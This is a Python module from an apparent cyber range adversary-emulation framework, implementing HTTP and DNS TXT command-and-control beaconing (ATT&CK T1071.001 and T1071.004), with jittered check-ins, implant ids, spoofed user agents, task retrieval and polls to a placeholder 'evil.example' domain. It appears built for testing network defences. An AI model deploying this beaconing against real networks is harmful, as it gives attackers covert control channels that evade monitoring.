"""Command and control: T1071.001 HTTP beaconing and T1071.004 DNS beaconing (TXT polls).

Also the two clients the exfiltration family reuses:

* :func:`http_request`: one HTTP request over one real kernel TCP connection
  (``tcp.Conn``), counted exactly with TCP_INFO. The request is written in pieces of at most
  one MSS with ``TCP_NODELAY`` and ``TCP_NOTSENT_LOWAT = 1`` (a piece is written only when the
  previous one has left), so every piece is one segment on the wire and never a GSO
  super-packet (on veth links a sensor would see a 64 kB "packet" where ``tcpi_segs_out``
  counts 45). The C2 listener answers HTTP/1.0 and closes first; the client reads to EOF, takes
  ``tcpi_segs_out`` and aborts (one RST): ``packets = segs_out + 1``.
* :class:`DnsClient`: queries built with scapy's DNS codec, sent from ONE connected kernel UDP
  socket (one 5-tuple), one datagram per query (exact), answered or retried; the socket stays
  open until every answer (late ones too) is in, so the actor's kernel never answers a late
  reply with an ICMP port unreachable.
"""
from __future__ import annotations

import json
import random
import secrets
import socket
import time

from cyberrange.attack.spec import Param, technique
from cyberrange.attack.techniques import witness
from cyberrange.attack.techniques.common import Blocked, Result, conclude, defence_reason, flow
from cyberrange.attack.techniques.tcp import Conn

TCP_NOTSENT_LOWAT = 25
DEAD = ("refused", "timeout", "unreachable")     # the listener cannot be reached
UDP_FRAME_OVERHEAD = 42          # Ethernet 14 + IP 20 + UDP 8
MAX_CHECKINS = 100_000           # check-ins of one beaconing step (playbook check refuses more)
MAX_BEACON_SECONDS = 86_400      # its longest duration
CUT_AFTER = 3                    # unanswered DNS polls in a row, after answers: the channel is cut


def parse_service(target: str, default_port: int) -> tuple[str, int]:
    ip, _, port = str(target).partition(":")
    return ip, int(port) if port else int(default_port)


def send_segments(conn: Conn, data: bytes) -> None:
    """Write ``data`` so that each piece of at most one MSS is exactly one segment."""
    s = conn.sock
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try:
        s.setsockopt(socket.IPPROTO_TCP, TCP_NOTSENT_LOWAT, 1)
    except OSError:
        pass
    raw = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 32)
    mss = int.from_bytes(raw[16:20], "little") or 536
    for i in range(0, len(data), mss):
        s.sendall(data[i:i + mss])


def http_request(ip: str, port: int, method: str, path: str, body: bytes = b"",
                 user_agent: str = "Mozilla/5.0", headers: dict | None = None,
                 connect_timeout: float = 2.5, io_timeout: float = 5.0) -> tuple[str, dict, bytes]:
    """One request on one connection: (status, flow, response body).

    status: ok (2xx) | http-<code> | no-answer | refused | timeout | unreachable."""
    c = Conn(ip, port, connect_timeout, io_timeout)
    status, rbody = c.status, b""
    try:
        if c.established:
            head = [f"{method} {path} HTTP/1.1", f"Host: {ip}:{port}", f"User-Agent: {user_agent}",
                    "Accept: */*", "Connection: close"]
            for k, v in (headers or {}).items():
                head.append(f"{k}: {v}")
            if body or method == "POST":
                head.append(f"Content-Length: {len(body)}")
            send_segments(c, ("\r\n".join(head) + "\r\n\r\n").encode() + body)
            status = "no-answer"
            c.wait_eof()
            if c.buf.startswith(b"HTTP/"):
                code = int(c.buf.split(b" ", 2)[1])
                status = "ok" if 200 <= code < 300 else f"http-{code}"
                rbody = c.buf.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in c.buf else b""
    except (OSError, ValueError, IndexError):
        pass
    return status, c.close(), rbody


def jittered(interval: float, jitter: float, rng: random.Random) -> float:
    j = max(0.0, min(float(jitter), 1.0))
    return max(0.0, interval * (1 + rng.uniform(-j, j)))


# --------------------------------------------------------------------------- DNS client
class DnsClient:
    """Queries to one DNS server from one UDP socket; every datagram sent is counted."""

    def __init__(self, ip: str, port: int, timeout: float = 1.0, retries: int = 2):
        self.ip, self.port, self.timeout, self.retries = ip, port, timeout, retries
        witness.ensure()
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            self.sock.connect((ip, port))
        except OSError as exc:
            self.sock.close()
            reason = defence_reason(exc, f"connect to {ip}:{port}")
            if reason:
                raise Blocked(reason) from None
            raise
        self.src, self.sport = self.sock.getsockname()
        # a netdev egress rule drops datagrams after send() succeeded: the witness counts
        witness.claim((self.src, ip, "udp", self.sport, port))
        self.packets = self.bytes = 0
        self.outstanding = 0             # datagrams sent whose answer has not come back
        self.errors = 0

    def query(self, qname: str, qtype: str = "A"):
        """Send (and resend up to ``retries`` times) until answered: the answer (scapy DNS)
        or None."""
        from scapy.layers.dns import DNS, DNSQR
        qid = random.getrandbits(16)
        wire = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=qname, qtype=qtype)))
        for _attempt in range(1 + self.retries):
            try:
                self.sock.send(wire)
            except OSError as exc:
                self.errors += 1
                reason = defence_reason(exc, f"a query to {self.ip}:{self.port}")
                if reason:
                    raise Blocked(reason) from None
                return None
            self.packets += 1
            self.bytes += UDP_FRAME_OVERHEAD + len(wire)
            self.outstanding += 1
            ans = self._wait(qid, self.timeout)
            if ans is not None:
                return ans
        return None

    def _wait(self, qid: int, timeout: float):
        from scapy.layers.dns import DNS
        deadline = time.monotonic() + timeout
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                data = self.sock.recv(4096)
            except TimeoutError:
                return None
            except OSError:          # ICMP unreachable reported on the connected socket
                self.errors += 1
                return None
            self.outstanding = max(0, self.outstanding - 1)
            try:
                ans = DNS(data)
            except Exception:        # noqa: BLE001
                continue
            if ans.id == qid:
                return ans

    def close(self, linger: float = 0.5) -> dict:
        """Wait for late answers (at most ``linger`` s), close, return the flow."""
        deadline = time.monotonic() + linger
        while self.outstanding > 0 and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                self.sock.recv(4096)
                self.outstanding -= 1
            except (TimeoutError, OSError):
                break
        self.sock.close()
        return flow(self.src, self.ip, "udp", self.sport, self.port, self.packets, self.bytes)


def first_rdata(ans) -> str | None:
    """The first answer record's data as text (TXT strings joined), or None."""
    try:
        if not ans or not ans.ancount:
            return None
        rr = ans.an[0] if hasattr(ans.an, "__getitem__") else ans.an
        data = rr.rdata
        if isinstance(data, list):
            data = b"".join(d if isinstance(d, bytes) else str(d).encode() for d in data)
        return data.decode() if isinstance(data, bytes) else str(data)
    except Exception:               # noqa: BLE001
        return None


# --------------------------------------------------------------------------- T1071.001
_SCHED = {
    "interval": Param((int, float), 5.0, "seconds between check-ins"),
    "jitter": Param((int, float), 0.2, "fraction of the interval added or removed at random"),
    "count": Param(int, 5, "check-ins (0: until duration)"),
    "duration": Param((int, float), 0, "stop after this many seconds (0: after count)"),
    "seed": Param(int, None, "seed of the jitter (repeatable schedules)"),
}


def _schedule(params: dict):
    """``(rng, interval, jitter, count, duration)`` of a beaconing step (count 0: until the
    duration). ValueError when it would never end or run too long."""
    count = int(params["count"])
    duration = float(params["duration"] or 0)
    if count <= 0 and duration <= 0:
        raise ValueError("give count > 0 or duration > 0")
    if count > MAX_CHECKINS or duration > MAX_BEACON_SECONDS:
        raise ValueError(f"count at most {MAX_CHECKINS} and duration at most "
                         f"{MAX_BEACON_SECONDS} s")
    return (random.Random(params["seed"]), float(params["interval"]), float(params["jitter"]),
            count if count > 0 else 10 ** 9, duration)


@technique(
    "T1071.001", "Application Layer Protocol: Web Protocols (HTTP C2 beaconing)",
    "command-and-control",
    {**_SCHED,
     "method": Param(str, "GET", 'GET or POST check-ins (POST carries {"id", "n"})'),
     "path": Param(str, "/beacon", "URL path of the check-in"),
     "user_agent": Param(str, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "User-Agent header"),
     "port": Param(int, 8443, "listener port for targets given without :port"),
     "id": Param(str, "", "implant id sent with each check-in (random if empty)")},
    produces=("beacons", "tasks", "agent_id"), target_kind="service")
def http_beacon(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    try:
        rng, interval, jitter, count, duration = _schedule(params)
    except ValueError as exc:
        res.outcome, res.error, res.end = "error", str(exc), time.time()
        return res
    method = str(params["method"]).upper()
    path = str(params["path"])
    ua = str(params["user_agent"])
    agent_id = str(params["id"] or secrets.token_hex(4))
    services = list(dict.fromkeys(parse_service(t, params["port"]) for t in targets))
    tasks, ok, failed = [], 0, {}
    answered: set[tuple[str, int]] = set()
    t_end = time.monotonic() + duration if duration > 0 else None
    n = 0
    try:
        while n < count and services:
            for ip, port in list(services):
                sep = "&" if "?" in path else "?"
                body = json.dumps({"id": agent_id, "n": n}).encode() if method == "POST" else b""
                status, fl, rbody = http_request(ip, port, method, f"{path}{sep}id={agent_id}",
                                                 body, ua)
                res.flows.append(fl)
                if status == "ok":
                    ok += 1
                    answered.add((ip, port))
                    try:
                        tasks.append(json.loads(rbody).get("task"))
                    except (ValueError, AttributeError):
                        tasks.append(rbody.decode(errors="replace")[:200])
                    continue
                failed[status] = failed.get(status, 0) + 1
                if status in DEAD and (ip, port) in answered:
                    # the listener answered before: the channel was cut, stop calling it
                    res.cut(f"{ip}:{port} stopped answering check-ins ({status}) after "
                            f"check-in {n}: a block or an isolation mid-step")
                    services.remove((ip, port))
            n += 1
            if n >= count or (t_end and time.monotonic() >= t_end) or not services:
                break
            pause = jittered(interval, jitter, rng)
            if t_end:
                pause = min(pause, max(0.0, t_end - time.monotonic()))
            time.sleep(pause)
    except Blocked as exc:          # the actor's own node stopped sending
        res.cut(exc.reason)
    res.log.append(f"{n} rounds, {ok} check-ins answered, failures: {failed or 'none'}")
    res.facts = {"beacons": ok, "tasks": tasks, "agent_id": agent_id}
    return conclude(res, ok, set(failed) <= set(DEAD)
                    and "every check-in was refused or dropped (a firewall on the path)")


# --------------------------------------------------------------------------- T1071.004
@technique(
    "T1071.004", "Application Layer Protocol: DNS (C2 polling with TXT queries)",
    "command-and-control",
    {**_SCHED,
     "domain": Param(str, "evil.example", "the attacker's domain"),
     "session": Param(str, "", "session label (random if empty)"),
     "timeout": Param((int, float), 1.0, "seconds to wait for each answer"),
     "retries": Param(int, 1, "resends of an unanswered query")},
    produces=("beacons", "tasks", "session"), target_kind="service")
def dns_beacon(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    try:
        rng, interval, jitter, count, duration = _schedule(params)
    except ValueError as exc:
        res.outcome, res.error, res.end = "error", str(exc), time.time()
        return res
    domain = str(params["domain"]).strip(".")
    session = str(params["session"] or secrets.token_hex(4))
    ip, port = parse_service(targets[0], 53)
    if len(targets) > 1:
        res.log.append(f"DNS C2 talks to one server; using {ip}:{port}")
    tasks, unanswered = [], 0
    t_end = time.monotonic() + duration if duration > 0 else None
    n = 0
    client = None
    try:
        client = DnsClient(ip, port, float(params["timeout"]), int(params["retries"]))
        while n < count:
            ans = client.query(f"{secrets.token_hex(4)}.{session}.p.{domain}", "TXT")
            text = first_rdata(ans)
            if text is not None:
                unanswered = 0
                try:
                    tasks.append(json.loads(text).get("task"))
                except (ValueError, AttributeError):
                    tasks.append(text[:200])
            else:
                unanswered += 1
                if tasks and unanswered >= CUT_AFTER:
                    res.cut(f"{ip}:{port} stopped answering after {len(tasks)} answered polls "
                            f"({unanswered} polls in a row unanswered): a block mid-step")
                    break
            n += 1
            if n >= count or (t_end and time.monotonic() >= t_end):
                break
            time.sleep(jittered(interval, jitter, rng))
    except Blocked as exc:          # the actor's own node stopped sending
        res.cut(exc.reason)
    finally:
        if client is not None:
            res.flows.append(client.close())
    res.log.append(f"{n} polls, {len(tasks)} answered, "
                   f"{client.packets if client else 0} datagrams")
    res.facts = {"beacons": len(tasks), "tasks": tasks, "session": session}
    return conclude(res, tasks, "no poll was answered (a firewall drops the queries, or no "
                                "server listens)")
